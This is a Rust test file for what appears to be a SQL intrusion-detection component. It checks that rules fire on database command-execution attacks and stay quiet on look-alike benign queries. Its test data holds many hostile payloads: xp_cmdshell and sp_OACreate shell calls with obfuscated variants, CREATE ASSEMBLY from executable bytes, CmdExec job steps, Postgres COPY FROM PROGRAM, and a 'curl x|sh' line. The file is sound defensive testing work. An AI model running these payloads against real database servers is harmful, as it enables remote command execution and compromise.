use proptest::prelude::*;

use super::*;

fn sids(text: &str) -> Vec<u64> {
    conditions(text).into_iter().map(|hit| hit.sid).collect()
}

/// What either server would do.
pub fn both(text: &str) -> [Script; 2] {
    Dialect::ALL.map(|dialect| script(text, dialect))
}

/// Each attack beside the nearest text that is none.
const PAIRS: &[(u64, &str, &str)] = &[
    // 9402001
    (9_402_001, "EXEC sp_configure 'xp_cmdshell', 1", "EXEC sp_configure 'xp_cmdshell', 0"),
    (9_402_001, "exec master.dbo.sp_configure N'xp_cmdshell',1;reconfigure", "exec master.dbo.sp_configure N'xp_cmdshell'"),
    (
        9_402_001,
        "EXEC sp_configure @configname='xp_cmdshell', @configvalue=1",
        "EXEC sp_configure @configname='max server memory', @configvalue=1",
    ),
    (9_402_001, "sp_configure 'xp_cmdshell', '1'", "SELECT * FROM sys.configurations WHERE name='xp_cmdshell'"),
    (9_402_001, "EXEC('sp_configure ''xp_cmdshell'',1')", "PRINT 'EXEC sp_configure ''xp_cmdshell'',1'"),
    (
        9_402_001,
        "DECLARE @x nvarchar(99)='xp_cmd'+'shell'; EXEC sp_configure @x, 1",
        "DECLARE @x nvarchar(99)='xp_cmd'+'shell'; SELECT @x, 1",
    ),
    (9_402_001, "EXEC sp_configure xp_cmdshell, 1", "EXEC sp_configure 'show advanced options', 1"),
    (
        9_402_001,
        "EXEC sp_executesql N'EXEC sp_configure ''xp_cmdshell'', 1'",
        "EXEC sp_executesql N'SELECT ''sp_configure xp_cmdshell 1'''",
    ),
    // 9402002
    (9_402_002, "EXEC xp_cmdshell 'whoami'", "SELECT 'EXEC xp_cmdshell ''whoami'''"),
    (9_402_002, "EXEC master..xp_cmdshell 'dir'", "/* EXEC master..xp_cmdshell 'dir' */ SELECT 1"),
    (9_402_002, "eXeC/**/[master].[dbo].[xp_cmdshell] N'dir'", "SELECT xp_cmdshell FROM [audit].[settings]"),
    (9_402_002, "xp_cmdshell 'dir'", "-- xp_cmdshell 'dir'\nSELECT 1"),
    (9_402_002, "EXEC('xp_cmd'+'shell ''dir''')", "SELECT 'xp_cmd'+'shell ''dir'''"),
    (9_402_002, "DECLARE @p sysname; SET @p='xp_cmdshell'; EXEC @p 'dir'", "DECLARE @p sysname; SET @p='xp_cmdshell'; PRINT @p"),
    (9_402_002, "EXEC('EXEC(''xp_cmdshell ''''dir'''''')') AT linked", "GRANT EXECUTE ON xp_cmdshell TO auditor"),
    (
        9_402_002,
        "DECLARE @c varchar(99)=CAST(0x78705f636d647368656c6c20276469722720 AS varchar(99)); EXEC(@c)",
        "DECLARE @c varbinary(99)=0x78705f636d647368656c6c2027; SELECT @c",
    ),
    (9_402_002, "EXEC(CHAR(120)+'p_cmdshell ''dir''')", "SELECT CHAR(120)+'p_cmdshell'"),
    (9_402_002, "EXEC(REVERSE('''rid'' llehsdmc_px'))", "SELECT REVERSE('llehsdmc_px')"),
    (
        9_402_002,
        "SELECT * FROM OPENROWSET('SQLNCLI','s','EXEC xp_cmdshell ''dir''')",
        "SELECT * FROM OPENROWSET('SQLNCLI','s','SELECT 1')",
    ),
    (9_402_002, "IF 1=1 BEGIN EXEC @r = xp_cmdshell 'dir' END", "IF OBJECT_ID('xp_cmdshell') IS NOT NULL PRINT 'there'"),
    (9_402_002, "SELECT 1\nGO\nxp_cmdshell 'dir'", "INSERT INTO log(text) VALUES ('xp_cmdshell ''dir''')"),
    (9_402_002, "DECLARE @a varchar(9)='xp_';SET @a+='cmdshell';EXEC @a 'x'", "DENY EXECUTE ON [xp_cmdshell] TO public"),
    // 9402003
    (
        9_402_003,
        "DECLARE @o int EXEC sp_OACreate 'wscript.shell', @o OUTPUT EXEC sp_OAMethod @o,'run',null,'cmd'",
        "DECLARE @o int EXEC sp_OACreate 'wscript.shell', @o OUTPUT",
    ),
    (
        9_402_003,
        "EXEC sp_oacreate 'Shell.Application',@o out;EXEC sp_oamethod @o,'ShellExecute',null,'calc'",
        "EXEC sp_oacreate 'MSSQL.Report',@o out;EXEC sp_oamethod @o,'Run',null,'r'",
    ),
    (
        9_402_003,
        "exec sp_OACreate 'MSXML2.ServerXMLHTTP',@h out exec sp_OAMethod @h,'open'",
        "SELECT 'sp_OACreate MSXML2.ServerXMLHTTP', 'sp_OAMethod'",
    ),
    (
        9_402_003,
        "EXEC sp_OACreate '{72C24DD5-D70A-438B-8A42-98424B88AFB8}',@o out EXEC sp_OAMethod @o,'run'",
        "EXEC sp_OADestroy @o",
    ),
    (9_402_003, "EXEC sp_OACreate 'ws'+'cript.shell',@o out EXEC sp_OAMethod @o,'run'", "EXEC sp_OAMethod @o,'run'"),
    (
        9_402_003,
        "EXEC sp_OACreate 'Adodb.Stream',@o out EXEC sp_OAMethod @o,'SaveToFile'",
        "-- EXEC sp_OACreate 'Adodb.Stream',@o out EXEC sp_OAMethod @o,'x'",
    ),
    // 9402004
    (9_402_004, "CREATE ASSEMBLY x FROM 0x4D5A9000 WITH PERMISSION_SET=UNSAFE", "CREATE ASSEMBLY x FROM 'C:\\lib\\tool.dll'"),
    (9_402_004, "create/**/assembly [x] authorization dbo from 0x4d5a90", "CREATE ASSEMBLY x FROM 0x00010203"),
    (
        9_402_004,
        "DECLARE @b varbinary(max)=0x4D5A90; CREATE ASSEMBLY x FROM @b",
        "DECLARE @b varbinary(max)=0x4D5A90; INSERT INTO files VALUES(@b)",
    ),
    (9_402_004, "EXEC('CREATE ASSEMBLY x FROM 0x4D5A90')", "SELECT 'CREATE ASSEMBLY x FROM 0x4D5A90'"),
    (9_402_004, "ALTER ASSEMBLY x FROM 0x4D5A90", "DROP ASSEMBLY x"),
    (9_402_004, "CREATE ASSEMBLY x FROM 0x4D5A9000, 0x4D5A", "CREATE FUNCTION f() RETURNS int AS EXTERNAL NAME x.y.z"),
    // 9402005
    (
        9_402_005,
        "EXEC msdb.dbo.sp_add_jobstep @job_name='j', @subsystem='CmdExec', @command='whoami'",
        "EXEC msdb.dbo.sp_add_jobstep @job_name='j', @subsystem='TSQL', @command='SELECT 1'",
    ),
    (
        9_402_005,
        "EXEC sp_add_jobstep @job_name=N'j', @subsystem=N'PowerShell', @command=N'x'",
        "EXEC sp_add_jobstep @job_name=N'PowerShell', @command=N'SELECT 1'",
    ),
    (
        9_402_005,
        "EXEC sp_add_jobstep null_id, 'j', 1, 's', 'CMDEXEC', 'dir'",
        "EXEC sp_add_jobstep 'a', 'j', 1, 's', 'SSIS', 'CMDEXEC'",
    ),
    (9_402_005, "EXEC('sp_add_jobstep @subsystem=''cmdexec''')", "EXEC sp_help_jobstep @job_name='j'"),
    (
        9_402_005,
        "DECLARE @s varchar(9)='Cmd'+'Exec' EXEC sp_add_jobstep @subsystem=@s",
        "EXEC sp_update_jobstep @subsystem='TSQL'",
    ),
    (
        9_402_005,
        "EXEC sp_add_jobstep @step_name='x',@subsystem='CMDEXEC'",
        "SELECT subsystem FROM msdb.dbo.sysjobsteps WHERE subsystem='CmdExec'",
    ),
    // 9402006
    (9_402_006, "COPY t FROM PROGRAM 'id'", "COPY t FROM STDIN"),
    (9_402_006, "copy (select 'x') to program 'sh'", "COPY (SELECT 'to program') TO STDOUT"),
    (
        9_402_006,
        "CREATE OR REPLACE FUNCTION f() RETURNS text AS $$ import os $$ LANGUAGE plpython3u",
        "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
    ),
    (9_402_006, "SELECT lo_export(1, '/tmp/x')", "SELECT 'lo_export(1)'"),
    (
        9_402_006,
        "DO $$ BEGIN EXECUTE 'COPY t FROM PROGRAM ''id'''; END $$",
        "DO $$ BEGIN RAISE NOTICE 'COPY t FROM PROGRAM'; END $$",
    ),
    (
        9_402_006,
        "CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/x.so','system' LANGUAGE 'C' STRICT",
        "CREATE FUNCTION f() RETURNS trigger AS $b$ BEGIN END $b$ LANGUAGE plpgsql",
    ),
    (9_402_006, "COPY t FROM PROGRAM E'\\x69d'", "COPY program FROM '/tmp/data.csv'"),
];

#[test]
fn each_attack_fires_and_its_look_alike_does_not() {
    for (sid, attack, benign) in PAIRS {
        assert!(sids(attack).contains(sid), "{sid} must fire on: {attack}\n{:?}", both(attack));
        assert!(sids(benign).is_empty(), "{sid} must not fire on: {benign}\n{:?}", both(benign));
    }
}

#[test]
fn the_command_is_part_of_the_evidence() {
    let command = |text: &str| conditions(text).into_iter().find_map(|hit| hit.command);
    assert_eq!(command("EXEC xp_cmdshell 'powershell -enc '+'AAAA'").as_deref(), Some("powershell -enc AAAA"));
    assert_eq!(command("COPY t FROM PROGRAM 'curl x|sh'").as_deref(), Some("curl x|sh"));
    assert_eq!(command("EXEC sp_add_jobstep @subsystem='CmdExec', @command='dir'").as_deref(), Some("dir"));
}

#[test]
fn tokens_follow_both_dialects() {
    let word = |text: &str| Token::Word(text.to_owned());
    let text = |text: &str| Token::Text(text.to_owned());
    let (tsql, pgsql) = (|text: &str| tokens(text, Dialect::TransactSql), |text: &str| tokens(text, Dialect::Postgres));
    for lex in [tsql, pgsql] as [fn(&str) -> Vec<Token>; 2] {
        assert_eq!(lex("a/*x/*y*/z*/b--c\nd"), [word("a"), word("b"), word("d")]);
        assert_eq!(lex("N'it''s' \"c\"\"d\""), [text("it's"), Token::Double("c\"d".to_owned())]);
        assert_eq!(lex("0x4D5A 0xf"), [Token::Hex(vec![0x4d, 0x5a]), Token::Hex(vec![0xf])]);
        assert_eq!(lex("'open"), [text("open")]);
    }
    assert_eq!(tsql("[a]]b] @V"), [Token::Quoted("a]b".to_owned()), Token::Variable("@v".to_owned())]);
    assert_eq!(tsql("e'\\' $1.5 $"), [word("e"), text("\\"), Token::Number("1.5".to_owned()), Token::Symbol('$')]);
    assert_eq!(pgsql("E'a\\n\\x41' U&'\\0041\\+000042' U&'!0041' uescape '!'"), [text("a\nA"), text("AB"), text("A")]);
    assert_eq!(pgsql("$$a$b$$ $t$x$$y$t$ $1"), [text("a$b"), text("x$$y"), Token::Variable("$1".to_owned())]);
    assert_eq!(pgsql("'a'\n 'b' -- c\n'd' 'e'"), [text("abd"), text("e")]);
    assert_eq!(pgsql("a['x']#b").len(), 6);
}

#[test]
fn hostile_texts_take_no_more_than_linear_time() {
    let started = backstop_testkit::Stopwatch::start();
    for text in [
        "(".repeat(1_000_000),
        "'".repeat(999_999),
        "/*".repeat(500_000),
        "EXEC(".repeat(200_000),
        "a.".repeat(500_000),
        "'a'+".repeat(250_000),
        "EXEC sp_executesql N'".repeat(50_000),
        "$a$".repeat(300_000),
        "CONCAT('a',".repeat(90_000),
        "CASE WHEN 1=1 THEN ".repeat(50_000),
        "SET @a=CASE WHEN 1 THEN ".repeat(40_000),
        "EXEC(ISNULL((a b),".repeat(50_000),
        "FROM (".repeat(160_000),
        format!("SELECT * FROM {}", "a,".repeat(400_000)),
        format!("SELECT * FROM {}", "a.".repeat(400_000)),
        "WITH a AS (SELECT 1) SELECT ".repeat(30_000),
        "x text := ".repeat(90_000),
        "U&'a' ".repeat(150_000),
        "'a' /* */ ".repeat(90_000),
        "OPENROWSET('a';".repeat(60_000),
        "OPENDATASOURCE(".repeat(60_000),
        "EXEC @a=@a ".repeat(80_000),
        "FORMATMESSAGE('%s%s',".repeat(40_000),
        "COPY ".repeat(200_000),
        "CREATE ".repeat(140_000),
        "DECLARE @a int=1 ".repeat(60_000),
        "SET @a=@a+@a ".repeat(70_000),
        "EXEC('EXEC(''".repeat(60_000),
        format!("DECLARE @a varchar(max)='{}' {}", "x".repeat(200_000), "EXEC(@a) ".repeat(1_000)),
        format!("DECLARE @a varchar(9)='{}' {}", "x".repeat(1_000), "SET @a=REPLACE(@a,'x','xxxxxxxx') ".repeat(1_000)),
    ] {
        let one = backstop_testkit::Stopwatch::start();
        drop(conditions(&text));
        assert!(one.elapsed().as_secs() < 10, "{} …", &text[..30]);
    }
    assert!(started.elapsed().as_secs() < 120);
}

/// Random case, comments and blanks between tokens, and literals cut in two: nothing that a server minds.
fn disguise(sql: &str, choices: &[u8]) -> String {
    let mut choices = choices.iter().copied().cycle();
    let mut next = || choices.next().unwrap_or(0);
    let mut out = String::new();
    let mut in_text = false;
    for character in sql.chars() {
        if character == '\'' {
            in_text = !in_text;
        }
        if in_text || !character.is_ascii_alphabetic() {
            if character == ' ' && !in_text {
                out.push_str(["\t", "/**/", "\n", "/*'*/", " -- '\n"][usize::from(next()) % 5]);
            } else {
                out.push(character);
            }
        } else if next() % 2 == 0 {
            out.push(character.to_ascii_uppercase());
        } else {
            out.push(character.to_ascii_lowercase());
        }
    }
    out
}

proptest! {
    #[test]
    fn disguised_attacks_fire_and_disguised_look_alikes_do_not(
        which in 0..PAIRS.len(),
        choices in prop::collection::vec(any::<u8>(), 1..40),
    ) {
        let (sid, attack, benign) = PAIRS[which];
        // A line comment that ends a text is its own business.
        prop_assume!(!attack.contains("--") && !benign.contains("--") && !attack.contains("$$") && !benign.contains('$'));
        prop_assert!(sids(&disguise(attack, &choices)).contains(&sid), "{}", disguise(attack, &choices));
        prop_assert!(sids(&disguise(benign, &choices)).is_empty(), "{}", disguise(benign, &choices));
    }

    #[test]
    fn any_text_is_survived(text in "[a-z0-9'\"@$(){}\\[\\]+|,;:./*\\\\ \\n-]{0,300}") {
        drop(conditions(&text));
    }
}

#[test]
fn what_was_unfolded_is_offered_to_the_content_rules() {
    let offered = |text: &str| {
        let mut out = Findings::default();
        let flow = crate::testing::Flow::default();
        drop(offer(&flow.context(), &read(text).hits, Direction::ToServer, Some(7), &mut out));
        out.unfolded
            .into_iter()
            .filter(|unfolded| unfolded.layers.first() == Some(&"sql") && unfolded.layers.len() == 2)
            .map(|unfolded| (unfolded.bytes, unfolded.layers.to_vec()))
            .collect::<Vec<_>>()
    };
    assert_eq!(offered("EXEC('xp_cmd'+'shell ''power'+'shell -v 2''')"), [(b"powershell -v 2".to_vec(), vec!["sql", "command"])]);
    assert_eq!(offered("CREATE ASSEMBLY x FROM 0x4D5A9000FF"), [(b"MZ\x90\x00\xff".to_vec(), vec!["sql", "assembly"])]);
    assert!(offered("SELECT 'xp_cmdshell ''dir'''").is_empty());
}
